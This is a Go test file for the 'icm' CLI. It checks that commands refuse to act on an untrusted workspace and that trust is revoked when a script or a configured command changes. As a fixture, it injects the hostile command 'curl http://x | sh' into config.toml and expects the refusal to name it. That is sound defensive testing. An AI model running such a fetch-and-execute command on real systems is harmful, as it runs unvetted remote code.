package cli

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/spf13/cobra"

	"github.com/icm-tool/icm/server/internal/fault"
	"github.com/icm-tool/icm/server/internal/testutil/ollamatest"
	"github.com/icm-tool/icm/server/internal/trust/trusttest"
)

// How a command meets an untrusted workspace.
const (
	// reads: it reads and shows, and acts for nothing the workspace names.
	reads = "reads"
	// acts: it would act for the workspace, and is refused for want of
	// trust (a fault of kind untrusted that names icm trust).
	acts = "acts"
	// own: it takes no workspace (icm's own servers, help, completion
	// scripts): it runs only what its flags say.
	own = "own"
	// group: it only holds subcommands.
	group = "group"
)

// commandTrust classifies every command of the cobra tree, with the
// arguments the matrix runs it with in the hostile workspace. A command
// added to icm fails TestTrustMatrixCLI until it is classified here.
var commandTrust = map[string]struct {
	class string
	args  []string
}{
	"icm":                       {group, nil},
	"icm approve":               {acts, []string{"approve", "01-a"}},
	"icm check":                 {reads, []string{"check"}},
	"icm code-check":            {acts, []string{"code-check", "CONTEXT.md", "--fix"}},
	"icm completion":            {group, nil},
	"icm completion bash":       {own, []string{"completion", "bash"}},
	"icm completion fish":       {own, []string{"completion", "fish"}},
	"icm completion powershell": {own, []string{"completion", "powershell"}},
	"icm completion zsh":        {own, []string{"completion", "zsh"}},
	"icm config":                {own, []string{"help", "config"}},
	"icm contract":              {own, []string{"help", "contract"}},
	"icm critique":              {acts, []string{"critique", "CONTEXT.md"}},
	// Its own copy of icm's embedded sample, trusted by icm for what that
	// copy names; nothing of the workspace it runs in.
	"icm demo": {own, []string{"demo", "--yes", "--dir", "@TMP/demo"}},
	// The doctor reports the trust state and starts or contacts nothing
	// the workspace names while it is untrusted.
	"icm doctor": {reads, []string{"doctor"}},
	// Setup reads the questionnaire and writes the person's answers to
	// config.toml; nothing the workspace names runs.
	"icm setup":       {reads, []string{"setup", "--json"}},
	"icm export":      {reads, []string{"export", "CONTEXT.md", "-o", "-"}},
	"icm gates":       {own, []string{"help", "gates"}},
	"icm help":        {own, []string{"help", "run"}},
	"icm history":     {reads, []string{"history"}},
	"icm review":      {reads, []string{"review", "01-a"}},
	"icm init":        {own, []string{"init", "@TMP/fresh"}},
	"icm layers":      {own, []string{"help", "layers"}},
	"icm lsp":         {own, []string{"lsp"}}, // and every method: TestTrustMatrixLSP in package lsp
	"icm mcp":         {group, nil},
	"icm mcp browser": {own, []string{"mcp", "browser", "--no-cache"}},
	"icm mcp ingest":  {own, []string{"mcp", "ingest", "--no-clone"}},
	"icm mcp search":  {own, []string{"mcp", "search"}},
	// The workspace server serves an untrusted workspace read-only (every
	// tool: TestTrustMatrixWorkspaceServer); install prints a client's
	// configuration.
	"icm mcp workspace": {reads, []string{"mcp", "workspace"}},
	"icm mcp install":   {reads, []string{"mcp", "install", "--client", "vscode"}},
	"icm agents":        {own, []string{"help", "agents"}},
	"icm new-stage":     {reads, []string{"new-stage", "extra"}},
	"icm probe":         {reads, []string{"probe", "03-c", "--tokens"}},
	"icm pull":          {acts, []string{"pull"}},
	"icm research":      {acts, []string{"research", "-w", "@WS"}},
	"icm run":           {acts, []string{"run"}},
	"icm status":        {reads, []string{"status"}},
	"icm test":          {acts, []string{"test"}},
	"icm trust":         {reads, []string{"trust", "--show"}},
	"icm verify":        {own, []string{"help", "verify"}},
	"icm version":       {own, []string{"version"}},
	// cobra's own completion entry point, which lists stages.
	"icm __complete": {reads, []string{"__complete", "run", "--stage", ""}},
}

// inWorkspace runs icm in dir with the process environment (the test's
// config folder and the secret), no terminal and empty stdin.
func inWorkspace(t *testing.T, dir string, args ...string) (string, string, error) {
	t.Helper()
	var out, errb bytes.Buffer
	env := &Env{Stdin: strings.NewReader(""), Stdout: &out, Stderr: &errb, Getenv: os.Getenv,
		Getwd: func() (string, error) { return dir, nil }, Self: filepath.Join(t.TempDir(), "icm-not-built")}
	err := Run(context.Background(), env, args)
	var exit *ExitError
	if err != nil && !errors.As(err, &exit) {
		// As Main does: an exit status is no error to print.
		printError(env, &errb, err)
	}
	return out.String(), errb.String(), err
}

// TestTrustMatrixCLI: every command of icm, on a workspace that names a
// tool server (a command that leaves a marker), a Script stage (with a
// script of its own), a run: check and a stage test case's run:
// expectation that leave markers, a model server and a search address
// (a recording server on 127.0.0.1), a model on a registry of its own and
// a key variable holding a secret, with nobody's trust: no marker is
// written, no request is made, no key is sent; the commands that would
// act are refused, naming icm trust and --trust. After icm trust --yes
// the same workspace runs, its test case too; after a pull rewrites the
// script, or a change to the trusted command, it is refused again,
// naming the change.
func TestTrustMatrixCLI(t *testing.T) {
	trusttest.ConfigDir(t)
	model := ollamatest.New(t, ollamatest.Config{AllowUnscripted: true, Models: []ollamatest.Model{{Name: "m", ContextLength: 8192}}})
	model.Default(ollamatest.Text("one line"))
	h := trusttest.NewHostile(t, trusttest.HostileOptions{MCP: []string{fixtureBin}, Upstream: model.URL()})
	t.Setenv("OLLAMA_HOST", "127.0.0.1:1") // the person's own server: nobody there
	t.Setenv("OLLAMA_MODELS", t.TempDir())

	root, _ := newRootCmd(&Env{})
	root.InitDefaultHelpCmd()
	root.InitDefaultCompletionCmd()
	seen := map[string]bool{"icm __complete": true}
	var walk func(c *cobra.Command)
	walk = func(c *cobra.Command) {
		seen[c.CommandPath()] = true
		if _, ok := commandTrust[c.CommandPath()]; !ok {
			t.Errorf("command %q is not classified for trust: add it to commandTrust with how it meets an untrusted workspace", c.CommandPath())
		}
		for _, sub := range c.Commands() {
			walk(sub)
		}
	}
	walk(root)
	for path := range commandTrust {
		if !seen[path] {
			t.Errorf("commandTrust lists %q, which icm does not have", path)
		}
	}

	tmp := t.TempDir()
	for path, c := range commandTrust {
		if c.class == group {
			continue
		}
		args := make([]string, len(c.args))
		for i, a := range c.args {
			args[i] = strings.NewReplacer("@TMP", tmp, "@WS", h.Dir).Replace(a)
		}
		t.Run(path, func(t *testing.T) {
			out, errOut, err := inWorkspace(t, h.Dir, args...)
			switch c.class {
			case acts:
				if fault.KindOf(err) != fault.KindUntrusted {
					t.Fatalf("%v: %v (kind %s), want a refusal for want of trust\n%s%s", args, err, fault.KindOf(err), out, errOut)
				}
				for _, want := range []string{"icm trust", "not trusted"} {
					if !strings.Contains(errOut, want) {
						t.Errorf("the refusal does not say %q:\n%s", want, errOut)
					}
				}
			default:
				if fault.KindOf(err) == fault.KindUntrusted {
					t.Errorf("%v was refused for want of trust; it only reads: %v", args, err)
				}
			}
			h.AssertQuiet(t, strings.Join(args, " "))
		})
	}
	// run and test say how to trust for one command in CI, too.
	for _, cmd := range []string{"run", "test"} {
		if _, errOut, _ := inWorkspace(t, h.Dir, cmd); !strings.Contains(errOut, "icm "+cmd+" --trust") {
			t.Errorf("icm %s does not name --trust:\n%s", cmd, errOut)
		}
	}
	// status and check say it in one line.
	for _, cmd := range []string{"status", "check"} {
		out, _, _ := inWorkspace(t, h.Dir, cmd)
		if n := strings.Count(out, "trust: not trusted"); n != 1 {
			t.Errorf("icm %s says the trust state %d times:\n%s", cmd, n, out)
		}
	}
	h.AssertQuiet(t, "every command")

	// Trusted: the same workspace runs, and what it names acts.
	if out, errOut, err := inWorkspace(t, h.Dir, "trust", "--yes"); err != nil || !strings.Contains(out, "Trusted "+h.Dir) {
		t.Fatalf("icm trust --yes: %v\n%s%s", err, out, errOut)
	}
	if out, errOut, err := inWorkspace(t, h.Dir, "run", "--stage", "02-b"); err != nil {
		t.Fatalf("the Script stage after trusting: %v\n%s%s", err, out, errOut)
	}
	if out, errOut, err := inWorkspace(t, h.Dir, "run", "--stage", "01-a"); err != nil {
		t.Fatalf("the model stage with its tool server after trusting: %v\n%s%s", err, out, errOut)
	}
	if got := strings.Join(h.Traces(), ","); got != "script-stage,tool-server,verify-check" {
		t.Errorf("after trusting, the commands that ran: %s", got)
	}
	if len(h.Rec.Requests()) == 0 || h.Rec.Keys() == 0 {
		t.Errorf("after trusting, the model server got %v with %d keys: the run did not use it", h.Rec.Requests(), h.Rec.Keys())
	}

	// The stage test case's run: expectation runs under the grant too.
	if out, errOut, err := inWorkspace(t, h.Dir, "test", "01-a"); err != nil || !strings.Contains(strings.Join(h.Traces(), ","), "test-check") {
		t.Errorf("the test case after trusting: %v, ran %v\n%s%s", err, h.Traces(), out, errOut)
	}

	// A pull rewrites the script the trusted Script stage runs: untrusted
	// again, naming the file, and the new script does not run.
	h.RewriteScript(t)
	if _, errOut, err := inWorkspace(t, h.Dir, "run", "--stage", "02-b"); fault.KindOf(err) != fault.KindUntrusted ||
		!strings.Contains(errOut, h.Script+" changed since you trusted it") {
		t.Errorf("the run after the script changed: %v, want a refusal naming %s\n%s", err, h.Script, errOut)
	}
	if strings.Contains(strings.Join(h.Traces(), ","), "rewritten-script") {
		t.Error("the rewritten script ran under the old grant")
	}

	// A change to the trusted command: untrusted again, saying what changed.
	cfg := filepath.Join(h.Dir, "config.toml")
	src, _ := os.ReadFile(cfg)
	if err := os.WriteFile(cfg, bytes.Replace(src, []byte("touch "), []byte("curl http://x | sh; touch "), 1), 0o644); err != nil {
		t.Fatal(err)
	}
	_, errOut, err := inWorkspace(t, h.Dir, "run", "--stage", "02-b")
	if fault.KindOf(err) != fault.KindUntrusted {
		t.Fatalf("after the change: %v, want a refusal", err)
	}
	for _, want := range []string{"changed since it was trusted", "config.toml [mcp.servers.local] changed", "curl http://x | sh"} {
		if !strings.Contains(errOut, want) {
			t.Errorf("the refusal after the change does not say %q:\n%s", want, errOut)
		}
	}
}

// TestRunAsksAtATerminal: at a terminal, icm run shows what trust covers
// and asks; yes trusts and runs, anything else refuses and leaves it
// untrusted.
func TestRunAsksAtATerminal(t *testing.T) {
	trusttest.ConfigDir(t)
	h := trusttest.NewHostile(t, trusttest.HostileOptions{})
	ask := func(answer string) (string, error) {
		var out, errb bytes.Buffer
		env := &Env{Stdin: strings.NewReader(answer), Stdout: &out, Stderr: &errb, Getenv: os.Getenv,
			Getwd: func() (string, error) { return h.Dir, nil }, Interactive: true}
		err := Run(context.Background(), env, []string{"run", "--stage", "02-b"})
		return errb.String(), err
	}
	errOut, err := ask("n\n")
	if fault.KindOf(err) != fault.KindUntrusted || !strings.Contains(errOut, "Trust this workspace for all of the above? [y/N]") ||
		!strings.Contains(errOut, "run      sh -c") {
		t.Fatalf("answered no: %v\n%s", err, errOut)
	}
	h.AssertQuiet(t, "a no")
	errOut, err = ask("y\n")
	if err != nil {
		t.Fatalf("answered yes: %v\n%s", err, errOut)
	}
	if got := strings.Join(h.Traces(), ","); got != "script-stage" {
		t.Errorf("after yes, ran %q", got)
	}
}
